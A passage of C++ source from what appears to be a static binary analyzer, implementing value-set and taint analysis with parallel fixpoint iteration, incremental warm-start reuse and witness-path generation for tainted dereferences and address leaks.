    for (int succ : bb.succs) flow_local(succ, s);
  }
  if (sink != nullptr) {
    // Replay every visited block once from its fixpoint in-state to emit
    // the propagation events (std::map order: deterministic).
    for (const auto& [b, st] : in) {
      const BasicBlock& bb = cfg_.blocks()[static_cast<size_t>(b)];
      State s = st;
      bool dead = false;
      for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
        transfer(pc, cfg_.inst_at(pc), s, sink, dead, caller_fn);
        if (dead) break;
      }
    }
  }
  return exit;
}

// ---- block processing ------------------------------------------------------

State VsaEngine::block_in(int b) const {
  const BasicBlock& bb = cfg_.blocks()[static_cast<size_t>(b)];
  State s = in_state_[static_cast<size_t>(b)];

  // Degrade-only cross-check against the shared stack-height facts: if the
  // lint dataflow proved a different constant $sp delta at this block than
  // the value-set carries, trust neither.
  if (const std::optional<int32_t> d2 = heights_.at(bb.begin);
      d2.has_value() && s.reg(isa::kSp).vs.is_stack_rel() &&
      s.reg(isa::kSp).vs.value != *d2) {
    AbsVal sp = s.reg(isa::kSp);
    sp.vs = ValueSet::stack_region();
    s.set_reg(isa::kSp, sp);
  }
  return s;
}

void VsaEngine::process_block(int b) {
  const BasicBlock& bb = cfg_.blocks()[static_cast<size_t>(b)];
  State s;
  {
    std::lock_guard<std::mutex> lk(mu_of(bb.function));
    s = block_in(b);
  }
  bool dead = false;
  for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
    const Instruction& inst = cfg_.inst_at(pc);
    record_site(pc, inst, s);
    transfer(pc, inst, s, nullptr, dead, bb.function);
    if (dead) break;
  }
  if (dead || exhausted_) return;
  after_block(bb, s);
}

void VsaEngine::after_block(const BasicBlock& bb, State& s) {
  const Instruction& last = cfg_.inst_at(bb.end - 4);
  const uint32_t call_pc = bb.end - 4;

  if (last.op == Op::kJal) {
    const int fidx =
        bb.call_succs.empty()
            ? -1
            : cfg_.blocks()[static_cast<size_t>(bb.call_succs[0])].function;
    if (fidx >= 0 && inline_plan(fidx) != nullptr) {
      std::optional<State> exit = run_inline(fidx, bb.function, s, nullptr);
      if (exit.has_value()) flow_to(cfg_.block_at(bb.end), *exit);
    } else if (fidx >= 0) {
      handle_call(call_pc, bb.function, fidx, s);
    } else {
      // Callee unresolvable (target outside the recovered functions).
      // Killing the path here would let downstream sites look dead, so
      // flow a fully-smashed state to the continuation instead: the
      // unknown callee may have written anything anywhere.
      const int cont = cfg_.block_at(bb.end);
      if (cont >= 0) flow_to(cont, smash_unknown_call());
    }
    return;
  }
  if (last.op == Op::kJalr) {
    for (int cb : bb.call_succs) {
      const int fidx = cfg_.blocks()[static_cast<size_t>(cb)].function;
      if (fidx >= 0) handle_call(call_pc, bb.function, fidx, s);
    }
    return;
  }
  if (bb.returns) {
    if (bb.function >= 0) {
      capture_exit(bb.function, s);
    } else {
      // A `jr $ra` outside any recovered function: we cannot pair it with a
      // call, so conservatively flow a smashed state to every graph-wired
      // return site rather than letting downstream code look dead.
      for (int succ : bb.succs) {
        if (succ >= 0) flow_to(succ, smash_unknown_call());
      }
    }
    return;  // in-function return-site succs are handled by compose()
  }
  for (int succ : bb.succs) {
    if (succ < 0) continue;
    if (cfg_.blocks()[static_cast<size_t>(succ)].function == bb.function) {
      flow_to(succ, s);
    } else {
      // Ordinary edge into another function (fallthrough, shared tails,
      // jump tables): the frame coordinate system no longer applies.
      flow_to(succ, degrade_for_foreign(s));
    }
  }
  for (int cb : bb.call_succs) {  // bltzal/bgezal conditional calls
    const int fidx = cfg_.blocks()[static_cast<size_t>(cb)].function;
    if (fidx >= 0) handle_call(call_pc, bb.function, fidx, s);
  }
}

// Bottom-up priorities over the recovered call graph: iterative Tarjan pops
// an SCC only after every SCC it can reach, so the pop order ranks callees
// before their callers.  Purely a scheduling heuristic — the least fixpoint
// is unique regardless — but it means a callee's exit/summary is usually
// converged by the time a caller composes, minimizing recomposition.
std::vector<int> callee_first_priorities(const Cfg& cfg) {
  const auto& fns = cfg.functions();
  const int n = static_cast<int>(fns.size());
  std::vector<int> prio(static_cast<size_t>(n), 0);
  std::vector<int> index(static_cast<size_t>(n), -1);
  std::vector<int> low(static_cast<size_t>(n), 0);
  std::vector<uint8_t> onstack(static_cast<size_t>(n), 0);
  std::vector<int> stack;
  int next_index = 0;
  int next_prio = 0;
  struct Frame {
    int v;
    size_t ci;
  };
  std::vector<Frame> dfs;
  for (int root = 0; root < n; ++root) {
    if (index[static_cast<size_t>(root)] != -1) continue;
    index[static_cast<size_t>(root)] = low[static_cast<size_t>(root)] =
        next_index++;
    stack.push_back(root);
    onstack[static_cast<size_t>(root)] = 1;
    dfs.push_back({root, 0});
    while (!dfs.empty()) {
      Frame& f = dfs.back();
      const auto& callees = fns[static_cast<size_t>(f.v)].callees;
      if (f.ci < callees.size()) {
        const int w = callees[f.ci++];
        if (w < 0 || w >= n) continue;
        if (index[static_cast<size_t>(w)] == -1) {
          index[static_cast<size_t>(w)] = low[static_cast<size_t>(w)] =
              next_index++;
          stack.push_back(w);
          onstack[static_cast<size_t>(w)] = 1;
          dfs.push_back({w, 0});
        } else if (onstack[static_cast<size_t>(w)] != 0) {
          low[static_cast<size_t>(f.v)] = std::min(
              low[static_cast<size_t>(f.v)], index[static_cast<size_t>(w)]);
        }
      } else {
        if (low[static_cast<size_t>(f.v)] == index[static_cast<size_t>(f.v)]) {
          for (;;) {
            const int w = stack.back();
            stack.pop_back();
            onstack[static_cast<size_t>(w)] = 0;
            prio[static_cast<size_t>(w)] = next_prio;
            if (w == f.v) break;
          }
          ++next_prio;
        }
        const int v = f.v;
        dfs.pop_back();
        if (!dfs.empty()) {
          low[static_cast<size_t>(dfs.back().v)] =
              std::min(low[static_cast<size_t>(dfs.back().v)],
                       low[static_cast<size_t>(v)]);
        }
      }
    }
  }
  return prio;
}

void VsaEngine::worker() {
  std::unique_lock<std::mutex> lk(wl_mu_);
  for (;;) {
    if (exhausted_ || warm_failed_) break;
    if (!pq_.empty()) {
      const int b = pq_.begin()->second;
      pq_.erase(pq_.begin());
      queued_[static_cast<size_t>(b)] = 0;
      ++active_;
      lk.unlock();
      if (++block_runs_ > kMaxBlockRuns) exhausted_ = true;
      else process_block(b);
      lk.lock();
      --active_;
    } else if (!compose_q_.empty()) {
      const auto [call_pc, fidx] = compose_q_.front();
      compose_q_.pop_front();
      compose_queued_.erase({call_pc, fidx});
      ++active_;
      lk.unlock();
      compose(call_pc, fidx);
      lk.lock();
      --active_;
    } else if (active_ == 0) {
      break;  // no work anywhere and nobody can produce more
    } else {
      wl_cv_.wait(lk);
      continue;
    }
    if (pq_.empty() && compose_q_.empty() && active_ == 0) {
      wl_cv_.notify_all();  // wake idlers so they observe completion
    }
  }
  lk.unlock();
  wl_cv_.notify_all();  // exhaustion/abort: release everyone
}

void VsaEngine::run(int jobs) {
  const int entry = cfg_.block_at(cfg_.program().entry);
  if (entry < 0) return;
  parallel_ = jobs > 1 && !warm_;  // warm runs are small; keep them ordered
  if (parallel_) fn_prio_ = callee_first_priorities(cfg_);
  State boot;
  // The initial $sp is the root of stack address provenance (mirrors the
  // dynamic loader seed).
  boot.set_reg(isa::kSp, {Taint::kUntainted, ValueSet::stack_rel(0),
                          mem::kStackAddrMask});
  flow_to(entry, boot);

  if (parallel_) {
    std::vector<std::thread> pool;
    pool.reserve(static_cast<size_t>(jobs));
    for (int i = 0; i < jobs; ++i) pool.emplace_back([this] { worker(); });
    for (std::thread& t : pool) t.join();
    parallel_ = false;
    return;
  }

  while (!worklist_.empty() || !compose_q_.empty()) {
    if (exhausted_ || warm_failed_) break;
    if (!worklist_.empty()) {
      const int b = worklist_.front();
      worklist_.pop_front();
      queued_[static_cast<size_t>(b)] = 0;
      if (++block_runs_ > kMaxBlockRuns) {
        exhausted_ = true;
        break;
      }
      process_block(b);
    } else {
      const auto [call_pc, fidx] = compose_q_.front();
      compose_q_.pop_front();
      compose_queued_.erase({call_pc, fidx});
      compose(call_pc, fidx);
    }
  }
}

// ---- fact collection + witness generation ----------------------------------

// Replays every reached block once from its converged in-state to collect
// the per-site facts (verdicts, leak planes, witness-BFS targets) and, when
// requested, the propagation events.  Two separate sweeps:
//
//   1. The fact sweep applies the same stack-height degrade preamble
//      process_block applied during iteration, so the replayed states are
//      exactly the states the historical per-visit recording saw (the
//      transfer is monotone, so the final visit's facts are the join of
//      every visit's — recording once here is identical to recording every
//      visit there).
//   2. The event sweep reproduces the historical witness pass, which did
//      NOT apply the preamble; keeping it separate keeps witness text
//      byte-identical on the (pathological) blocks where the lint heights
//      and the value-set disagree about $sp.
void VsaEngine::collect_pass(const VsaOptions& options, bool filtered) {
  collecting_ = true;
  for (size_t b = 0; b < has_in_.size(); ++b) {
    if (has_in_[b] == 0) continue;
    if (filtered && replay_block_[b] == 0) continue;
    const BasicBlock& bb = cfg_.blocks()[b];
    State s = block_in(static_cast<int>(b));
    bool dead = false;
    for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
      const Instruction& inst = cfg_.inst_at(pc);
      record_site(pc, inst, s);
      transfer(pc, inst, s, nullptr, dead, bb.function);
      if (dead) break;
    }
    if (dead) continue;
    const Instruction& last = cfg_.inst_at(bb.end - 4);
    if (last.op == Op::kJal && !bb.call_succs.empty()) {
      const int fidx =
          cfg_.blocks()[static_cast<size_t>(bb.call_succs[0])].function;
      if (fidx >= 0 && inline_plan(fidx) != nullptr) {
        run_inline(fidx, bb.function, s, nullptr);
      }
    }
  }
  collecting_ = false;

  if (!options.witnesses) return;
  // The boot $sp seed has no program point; anchor its root at the entry.
  aprov_events_.insert(
      {cfg_.program().entry, loc_reg(isa::kSp), 0, Root::kStackAddrIntro});
  for (size_t b = 0; b < has_in_.size(); ++b) {
    if (has_in_[b] == 0) continue;
    const BasicBlock& bb = cfg_.blocks()[b];
    State s = in_state_[b];
    bool dead = false;
    for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
      transfer(pc, cfg_.inst_at(pc), s, &events_, dead, bb.function);
      if (dead) break;
    }
    if (dead) continue;
    const Instruction& last = cfg_.inst_at(bb.end - 4);
    if (last.op == Op::kJal && !bb.call_succs.empty()) {
      const int fidx =
          cfg_.blocks()[static_cast<size_t>(bb.call_succs[0])].function;
      if (fidx >= 0 && inline_plan(fidx) != nullptr) {
        run_inline(fidx, bb.function, s, &events_);
      }
    }
  }
}

// ---- incremental machinery --------------------------------------------------

// Invokes `emit(dst_block, state)` for every cross-*function* flow block
// `b` sends at the converged fixpoint: ordinary edges into another
// function, unresolved-jal and unpaired-return smashes, and inline-jal
// exits landing cross-function.  Call-entry and compose flows are excluded
// (reconstructed from call_sites_/fns_ instead).  Mirrors after_block
// exactly; the replay runs from the degraded in-state, like process_block.
template <typename F>
void VsaEngine::for_cross_flows(int b, F&& emit) {
  const auto& blocks = cfg_.blocks();
  const BasicBlock& bb = blocks[static_cast<size_t>(b)];
  const Instruction& last = cfg_.inst_at(bb.end - 4);

  // Cheap pre-screen: most blocks flow only inside their own function.
  bool may_emit = false;
  if (last.op == Op::kJal) {
    const int fidx =
        bb.call_succs.empty()
            ? -1
            : blocks[static_cast<size_t>(bb.call_succs[0])].function;
    if (fidx < 0 || inline_plan(fidx) != nullptr) {
      const int cont = cfg_.block_at(bb.end);
      may_emit = cont >= 0 &&
                 blocks[static_cast<size_t>(cont)].function != bb.function;
    }
  } else if (last.op == Op::kJalr) {
    may_emit = false;  // call edges only; compose covers the continuation
  } else if (bb.returns) {
    may_emit = bb.function < 0 && !bb.succs.empty();
  } else {
    for (int succ : bb.succs) {
      if (succ >= 0 &&
          blocks[static_cast<size_t>(succ)].function != bb.function) {
        may_emit = true;
        break;
      }
    }
  }
  if (!may_emit) return;

  State s = block_in(b);
  bool dead = false;
  for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
    transfer(pc, cfg_.inst_at(pc), s, nullptr, dead, bb.function);
    if (dead) return;
  }
  if (last.op == Op::kJal) {
    const int fidx =
        bb.call_succs.empty()
            ? -1
            : blocks[static_cast<size_t>(bb.call_succs[0])].function;
    const int cont = cfg_.block_at(bb.end);
    if (cont < 0 || blocks[static_cast<size_t>(cont)].function == bb.function)
      return;
    if (fidx >= 0) {
      std::optional<State> exit = run_inline(fidx, bb.function, s, nullptr);
      if (exit.has_value()) emit(cont, *exit);
    } else {
      emit(cont, smash_unknown_call());
    }
    return;
  }
  if (bb.returns) {  // bb.function < 0 (screened above)
    for (int succ : bb.succs) {
      if (succ >= 0) emit(succ, smash_unknown_call());
    }
    return;
  }
  for (int succ : bb.succs) {
    if (succ >= 0 &&
        blocks[static_cast<size_t>(succ)].function != bb.function) {
      emit(succ, degrade_for_foreign(s));
    }
  }
}

std::shared_ptr<const VsaFixpoint> VsaEngine::build_record() {
  auto fp = std::make_shared<VsaFixpoint>();
  fp->exhausted = exhausted_;
  if (exhausted_) {
    fp->warm_ok = false;  // degraded facts are not a reusable fixpoint
    return fp;
  }
  const auto& blocks = cfg_.blocks();
  const auto& fns = cfg_.functions();
  fp->block_begin.reserve(blocks.size());
  fp->block_end.reserve(blocks.size());
  fp->block_fn.reserve(blocks.size());
  for (const BasicBlock& bb : blocks) {
    fp->block_begin.push_back(bb.begin);
    fp->block_end.push_back(bb.end);
    fp->block_fn.push_back(bb.function);
  }
  fp->fn_entry.reserve(fns.size());
  fp->fn_end.reserve(fns.size());
  for (const Function& f : fns) {
    fp->fn_entry.push_back(f.entry);
    fp->fn_end.push_back(f.end);
  }
  // The cross-flow replay burns block-run budget through leaf inlining;
  // shield the analysis-visible counter and treat replay exhaustion (never
  // seen in practice — the fixpoint already converged) as record-unusable.
  const size_t saved = block_runs_;
  block_runs_ = 0;
  // On a verified warm run a clean block's replay is deterministic over
  // unchanged text from an unchanged in-state, and warm_start proved every
  // recorded clean-source flow's destination PC still starts a block — so
  // the base record's clean-source entries ARE what the replay would emit;
  // copy them and replay only the dirty sources.
  for (size_t b = 0; b < blocks.size(); ++b) {
    if (has_in_[b] == 0) continue;
    if (warm_base_ != nullptr && block_dirty_[b] == 0) continue;
    for_cross_flows(static_cast<int>(b), [&](int dst, const State& s) {
      const std::pair<uint32_t, uint32_t> key{
          blocks[b].begin, blocks[static_cast<size_t>(dst)].begin};
      auto it = fp->cross_flows.find(key);
      if (it == fp->cross_flows.end()) fp->cross_flows.emplace(key, s);
      else it->second = join_states(it->second, s);
    });
  }
  if (warm_base_ != nullptr) {
    for (const auto& [key, s] : warm_base_->cross_flows) {
      if (clean_pc(key.first)) fp->cross_flows.emplace(key, s);
    }
  }
  if (exhausted_) {
    fp->warm_ok = false;
    exhausted_ = false;
  }
  block_runs_ = saved;
  // Last step: build_record consumes the engine (both callers destroy it
  // right after), so the converged states move into the record instead of
  // copying — the dominant cost of recording on the warm path.
  fp->in_state = std::move(in_state_);
  fp->has_in = has_in_;
  fp->fns = std::move(fns_);
  fp->call_sites = std::move(call_sites_);
  fp->call_pairs = std::move(call_pairs_);
  return fp;
}

bool VsaEngine::warm_start(const VsaFixpoint& base,
                           const std::vector<uint8_t>& dirty) {
  const auto& blocks = cfg_.blocks();
  const auto& fns = cfg_.functions();
  if (!base.warm_ok || base.exhausted) return false;
  if (dirty.size() != fns.size() || blocks.empty()) return false;
  size_t n_dirty = 0;
  for (uint8_t d : dirty) n_dirty += d != 0 ? 1 : 0;
  if (n_dirty == 0 || n_dirty == fns.size()) return false;  // nothing to gain

  clean_spans_.clear();
  for (size_t f = 0; f < fns.size(); ++f) {
    if (dirty[f] == 0) clean_spans_.emplace_back(fns[f].entry, fns[f].end);
  }
  std::sort(clean_spans_.begin(), clean_spans_.end());

  // Map each clean new function to its old index; the span must exist
  // verbatim in the record.  fn_entry is ascending (recorded in function
  // order), so the lookup is a binary search.
  const auto old_fn_at = [&](uint32_t entry) -> int {
    auto it = std::lower_bound(base.fn_entry.begin(), base.fn_entry.end(),
                               entry);
    if (it == base.fn_entry.end() || *it != entry) return -1;
    return static_cast<int>(it - base.fn_entry.begin());
  };
  std::vector<int> old_fn_of(fns.size(), -1);
  std::map<int, int> new_fn_of_old;
  for (size_t f = 0; f < fns.size(); ++f) {
    if (dirty[f] != 0) continue;
    const int ofi = old_fn_at(fns[f].entry);
    if (ofi < 0 || base.fn_end[static_cast<size_t>(ofi)] != fns[f].end) {
      return false;
    }
    old_fn_of[f] = ofi;
    new_fn_of_old[ofi] = static_cast<int>(f);
  }

  // Blocks outside any recovered function never carry a content hash, so
  // they are always re-iterated (dirty).
  block_dirty_.assign(blocks.size(), 1);
  for (size_t b = 0; b < blocks.size(); ++b) {
    const int f = blocks[b].function;
    if (f >= 0 && dirty[static_cast<size_t>(f)] == 0) block_dirty_[b] = 0;
  }

  // Preload clean blocks: same begin PC must name the same-shaped block.
  // block_begin is ascending (blocks are recorded in address order).
  for (size_t b = 0; b < blocks.size(); ++b) {
    if (block_dirty_[b] != 0) continue;
    auto it = std::lower_bound(base.block_begin.begin(),
                               base.block_begin.end(), blocks[b].begin);
    if (it == base.block_begin.end() || *it != blocks[b].begin) return false;
    const size_t ob = static_cast<size_t>(it - base.block_begin.begin());
    if (base.block_end[ob] != blocks[b].end) return false;
    in_state_[b] = base.in_state[ob];
    has_in_[b] = base.has_in[ob];
  }
  // Preload clean functions' exit/summary records.
  for (size_t f = 0; f < fns.size(); ++f) {
    if (dirty[f] == 0) fns_[f] = base.fns[static_cast<size_t>(old_fn_of[f])];
  }
  // Preload call sites and call pairs at clean PCs, remapping function
  // indices old -> new.  The summary cache dirties every transitive caller
  // of a changed function, so a clean caller can never call a dirty callee;
  // verify that invariant rather than assume it.
  for (const auto& [pc, cs] : base.call_sites) {
    if (!clean_pc(pc)) continue;
    CallSite c = cs;
    if (c.caller_fn >= 0) {
      auto it = new_fn_of_old.find(c.caller_fn);
      if (it == new_fn_of_old.end()) return false;
      c.caller_fn = it->second;
    }
    call_sites_.emplace(pc, std::move(c));
  }
  for (const auto& [ofidx, pcs] : base.call_pairs) {
    for (uint32_t pc : pcs) {
      if (!clean_pc(pc)) continue;
      auto it = new_fn_of_old.find(ofidx);
      if (it == new_fn_of_old.end()) return false;  // clean pc calls dirty fn
      call_pairs_[it->second].insert(pc);
    }
  }

  warm_ = true;
  warm_base_ = &base;

  // Seed the dirty region with everything the clean region contributed at
  // the old fixpoint.  (a) Recorded clean->dirty cross flows; a clean
  // block's successor PCs are branch targets inside its unchanged text, so
  // each must resolve to a block starting at that exact PC — anything else
  // means the record does not transfer, and silently dropping a seed would
  // under-approximate (the one failure verification could not catch).
  for (const auto& [key, s] : base.cross_flows) {
    const auto& [src, dst] = key;
    if (!clean_pc(src)) continue;
    const int nb = cfg_.block_at(dst);
    if (nb < 0 || blocks[static_cast<size_t>(nb)].begin != dst) return false;
    if (block_dirty_[static_cast<size_t>(nb)] != 0) flow_to(nb, s);
  }
  // (b) Clean call sites whose continuation block is dirty (cross-function
  // continuation): recompose so the return state flows in.
  for (const auto& [nfidx, pcs] : call_pairs_) {
    for (uint32_t pc : pcs) {
      const int cont = cfg_.block_at(pc + 4);
      if (cont >= 0 && block_dirty_[static_cast<size_t>(cont)] != 0) {
        queue_compose(pc, nfidx);
      }
    }
  }
  return !warm_failed_;
}

bool VsaEngine::warm_verify(const VsaFixpoint& base) {
  if (warm_failed_ || exhausted_) return false;
  const auto& blocks = cfg_.blocks();
  const auto& fns = cfg_.functions();

  // V1: call sites at dirty PCs must have reconverged to exactly the
  // recorded sites — same PC set, same joined state, same frame delta,
  // same caller (compared by entry PC across the index remap).
  {
    auto dirty_pc = [&](uint32_t pc) { return !clean_pc(pc); };
    auto oit = base.call_sites.begin();
    auto nit = call_sites_.begin();
    for (;;) {
      while (oit != base.call_sites.end() && !dirty_pc(oit->first)) ++oit;
      while (nit != call_sites_.end() && !dirty_pc(nit->first)) ++nit;
      const bool oend = oit == base.call_sites.end();
      const bool nend = nit == call_sites_.end();
      if (oend != nend) return false;
      if (oend) break;
      if (oit->first != nit->first) return false;
      const CallSite& oc = oit->second;
      const CallSite& nc = nit->second;
      if (oc.seen != nc.seen || oc.d_known != nc.d_known ||
          (oc.d_known && oc.d != nc.d) || !(oc.state == nc.state)) {
        return false;
      }
      const uint32_t oe =
          oc.caller_fn >= 0 ? base.fn_entry[static_cast<size_t>(oc.caller_fn)]
                            : 0xffffffffu;
      const uint32_t ne =
          nc.caller_fn >= 0 ? fns[static_cast<size_t>(nc.caller_fn)].entry
                            : 0xffffffffu;
      if (oe != ne) return false;
      // A dirty call returning into a *clean* continuation block would
      // recompose state into the preloaded region; equality of the call
      // site alone does not prove the compose result reconverged.  Rare
      // (cross-function continuation) — take the cold path.
      const int cont = cfg_.block_at(oit->first + 4);
      if (cont >= 0 && block_dirty_[static_cast<size_t>(cont)] == 0) {
        return false;
      }
      ++oit;
      ++nit;
    }
  }

  // V2: the dirty region's joined contribution into every clean block must
  // equal the recorded one.  Joins are not subtractable, so per-destination
  // join equality (old vs fresh replay) is the sufficient condition.
  std::map<uint32_t, State> j_old;
  for (const auto& [key, s] : base.cross_flows) {
    const auto& [src, dst] = key;
    if (clean_pc(src) || !clean_pc(dst)) continue;
    auto it = j_old.find(dst);
    if (it == j_old.end()) j_old.emplace(dst, s);
    else it->second = join_states(it->second, s);
  }
  std::map<uint32_t, State> j_new;
  const size_t saved = block_runs_;
  block_runs_ = 0;
  for (size_t b = 0; b < blocks.size(); ++b) {
    if (has_in_[b] == 0 || block_dirty_[b] == 0) continue;
    for_cross_flows(static_cast<int>(b), [&](int dst, const State& s) {
      const uint32_t dp = blocks[static_cast<size_t>(dst)].begin;
      if (!clean_pc(dp)) return;
      auto it = j_new.find(dp);
      if (it == j_new.end()) j_new.emplace(dp, s);
      else it->second = join_states(it->second, s);
    });
  }
  const bool replay_exhausted = exhausted_;
  exhausted_ = false;
  block_runs_ = saved;
  if (replay_exhausted) return false;
  return j_old == j_new;
}

// Prepares the filtered fact sweep: decides which blocks collect_pass must
// replay and which functions' site facts can be copied ("spliced") from the
// base analysis instead.
//
// Splicing a function f is sound when (a) its converged states and text are
// identical to the recorded run's — exactly what the warm verification
// proved for every clean function — AND (b) no replayed block's inline-jal
// reaches f.  (b) matters because a site inside an inlined callee
// accumulates facts from *every* inline caller's run_inline replay: replay
// one caller without the others and the join is partial.  So any function
// inline-called from a replayed block must be fully re-collected — its own
// reached blocks and every block that inline-calls it replay too
// (`recollect`, closed over nested inline calls; plans are currently
// leaf-only, so the closure is depth-1 in practice).
//
// Replayed blocks inside spliced functions are harmless: the splice in
// finish() overwrites, not joins.  Returns false (caller keeps the full
// sweep) when any spliced site lacks a recorded counterpart in `base`.
bool VsaEngine::set_warm_collect(const std::vector<uint8_t>& dirty_fns,
                                 const VsaAnalysis& base) {
  const auto& blocks = cfg_.blocks();
  const auto& fns = cfg_.functions();
  if (dirty_fns.size() != fns.size()) return false;

  // Inline-call edges at the fixpoint: block b ends in an inlinable jal to
  // function g.  Orphan callers (bb.function < 0) need no special case —
  // orphan blocks are always block_dirty_, so their targets seed below.
  std::vector<int> inline_target(blocks.size(), -1);
  std::vector<std::vector<int>> inline_out(fns.size());  // caller fn -> g
  for (size_t b = 0; b < blocks.size(); ++b) {
    if (has_in_[b] == 0) continue;
    const BasicBlock& bb = blocks[b];
    const Instruction& last = cfg_.inst_at(bb.end - 4);
    if (last.op != Op::kJal || bb.call_succs.empty()) continue;
    const int g = blocks[static_cast<size_t>(bb.call_succs[0])].function;
    if (g < 0 || inline_plan(g) == nullptr) continue;
    inline_target[b] = g;
    if (bb.function >= 0) {
      inline_out[static_cast<size_t>(bb.function)].push_back(g);
    }
  }

  // `recollect` closure: seeded by inline targets of dirty blocks, closed
  // over inline calls made from recollect functions (their blocks replay,
  // so their targets' joins rebuild too).
  std::vector<uint8_t> recollect(fns.size(), 0);
  std::deque<int> wl;
  for (size_t b = 0; b < blocks.size(); ++b) {
    const int g = inline_target[b];
    if (g >= 0 && block_dirty_[b] != 0 && recollect[static_cast<size_t>(g)] == 0) {
      recollect[static_cast<size_t>(g)] = 1;
      wl.push_back(g);
    }
  }
  while (!wl.empty()) {
    const int f = wl.front();
    wl.pop_front();
    for (int g : inline_out[static_cast<size_t>(f)]) {
      if (recollect[static_cast<size_t>(g)] == 0) {
        recollect[static_cast<size_t>(g)] = 1;
        wl.push_back(g);
      }
    }
  }

  replay_block_.assign(blocks.size(), 0);
  for (size_t b = 0; b < blocks.size(); ++b) {
    const int f = blocks[b].function;
    const int g = inline_target[b];
    replay_block_[b] = block_dirty_[b] != 0 ||
                       (f >= 0 && recollect[static_cast<size_t>(f)] != 0) ||
                       (g >= 0 && recollect[static_cast<size_t>(g)] != 0);
  }
  splice_fn_.assign(fns.size(), 0);
  splice_spans_.clear();
  for (size_t f = 0; f < fns.size(); ++f) {
    splice_fn_[f] = dirty_fns[f] == 0 && recollect[f] == 0;
    if (splice_fn_[f] != 0) splice_spans_.emplace_back(fns[f].entry, fns[f].end);
  }

  // Every spliced site must have a recorded counterpart to copy from.
  // Lockstep walks: all three vectors ascend by PC, spans by entry.
  {
    auto bit = base.sites.begin();
    size_t span = 0;
    for (const DerefSite& s : sites_) {
      while (span < splice_spans_.size() && s.pc >= splice_spans_[span].second)
        ++span;
      if (span == splice_spans_.size()) break;
      if (s.pc < splice_spans_[span].first) continue;
      while (bit != base.sites.end() && bit->pc < s.pc) ++bit;
      if (bit == base.sites.end() || bit->pc != s.pc) return false;
    }
  }
  {
    auto bit = base.leak_sites.begin();
    size_t span = 0;
    for (const LeakSite& s : leak_sites_) {
      while (span < splice_spans_.size() && s.pc >= splice_spans_[span].second)
        ++span;
      if (span == splice_spans_.size()) break;
      if (s.pc < splice_spans_[span].first) continue;
      while (bit != base.leak_sites.end() && bit->pc < s.pc) ++bit;
      if (bit == base.leak_sites.end() || bit->pc != s.pc) return false;
    }
  }
  splice_base_ = &base;
  return true;
}

WitnessStep VsaEngine::render_step(const Event& e) const {
  WitnessStep st;
  st.pc = e.pc;
  st.loc = loc_name(e.dst);
  const std::string disasm =
      cfg_.in_text(e.pc) ? isa::disassemble(cfg_.inst_at(e.pc), e.pc) : "";
  switch (e.root) {
    case Root::kNone: st.event = disasm; break;
    case Root::kSyscallInput:
      st.event = "tainted input (SYS_READ/SYS_RECV): " + disasm;
      break;
    case Root::kArgv:
      st.event = "command-line argument bytes: " + disasm;
      break;
    case Root::kUninitStack:
      st.event = "unmodeled/uninitialized stack read: " + disasm;
      break;
    case Root::kTaintSet:
      st.event = "taint source: " + disasm;
      break;
    case Root::kStackAddrIntro:
      st.event = "stack address introduced (initial $sp)";
      break;
    case Root::kHeapAddrIntro:
      st.event = "heap address introduced (SYS_BRK): " + disasm;
      break;
    case Root::kTextAddrIntro:
      st.event = "text address introduced: " + disasm;
      break;
    case Root::kUnmodeledAddr:
      st.event = "unmodeled memory may hold addresses: " + disasm;
      break;
  }
  return st;
}

void VsaEngine::build_witnesses(VsaAnalysis& res) const {
  // Shortest may-taint paths over the event graph: multi-source BFS from
  // the root events.  Everything iterates in std::set/std::map order, so
  // the chosen witness is byte-identical across runs.
  std::map<uint64_t, std::vector<const Event*>> adj;
  std::map<uint64_t, const Event*> pred;
  std::deque<uint64_t> q;
  for (const Event& e : events_) {
    if (e.root == Root::kNone) adj[e.src].push_back(&e);
  }
  const auto drain = [&] {
    while (!q.empty()) {
      const uint64_t n = q.front();
      q.pop_front();
      auto it = adj.find(n);
      if (it == adj.end()) continue;
      for (const Event* e : it->second) {
        if (pred.emplace(e->dst, e).second) q.push_back(e->dst);
      }
    }
  };
  // Two seeding waves: genuine taint sources (syscall input, argv, TAINTSET)
  // first, so they explain a location before the weaker "unmodeled stack
  // read" fallback does — an absent cell a SYS_READ tainted is otherwise
  // indistinguishable from one the analysis never saw written.
  for (const Event& e : events_) {
    if (e.root != Root::kNone && e.root != Root::kUninitStack) {
      if (pred.emplace(e.dst, &e).second) q.push_back(e.dst);
    }
  }
  drain();
  for (const Event& e : events_) {
    if (e.root == Root::kUninitStack) {
      if (pred.emplace(e.dst, &e).second) q.push_back(e.dst);
    }
  }
  drain();

  for (const DerefSite& site : sites_) {
    if (!site.reachable || !may_be_tainted(site.may_taint)) continue;
    Witness w;
    w.site_pc = site.pc;
    const uint64_t target = loc_reg(site.addr_reg);
    if (pred.count(target)) {
      std::vector<WitnessStep> rev;
      uint64_t n = target;
      while (true) {
        const Event* e = pred.at(n);
        rev.push_back(render_step(*e));
        if (e->root != Root::kNone) break;
        n = e->src;
      }
      std::reverse(rev.begin(), rev.end());
      w.steps = std::move(rev);
      w.complete = true;
    }
    w.steps.push_back(
        {site.pc, "dereference: " + isa::disassemble(site.inst, site.pc),
         "reg:" + std::string(isa::reg_name(site.addr_reg))});
    res.witnesses.push_back(std::move(w));
  }
}

void VsaEngine::build_leak_witnesses(VsaAnalysis& res) const {
  // Same shortest-path construction as build_witnesses, over the
  // address-provenance event graph, targeting the memory locations whose
  // planes dirtied each output buffer.
  std::map<uint64_t, std::vector<const Event*>> adj;
  std::map<uint64_t, const Event*> pred;
  std::deque<uint64_t> q;
  for (const Event& e : aprov_events_) {
    if (e.root == Root::kNone) adj[e.src].push_back(&e);
  }
  const auto drain = [&] {
    while (!q.empty()) {
      const uint64_t n = q.front();
      q.pop_front();
      auto it = adj.find(n);
      if (it == adj.end()) continue;
      for (const Event* e : it->second) {
        if (pred.emplace(e->dst, e).second) q.push_back(e->dst);
      }
    }
  };
  // Genuine address introductions first; the unmodeled-memory fallbacks
  // second (same two-wave reasoning as the data-taint witnesses).
  for (const Event& e : aprov_events_) {
    if (e.root == Root::kStackAddrIntro || e.root == Root::kHeapAddrIntro ||
        e.root == Root::kTextAddrIntro) {
      if (pred.emplace(e.dst, &e).second) q.push_back(e.dst);
    }
  }
  drain();
  for (const Event& e : aprov_events_) {
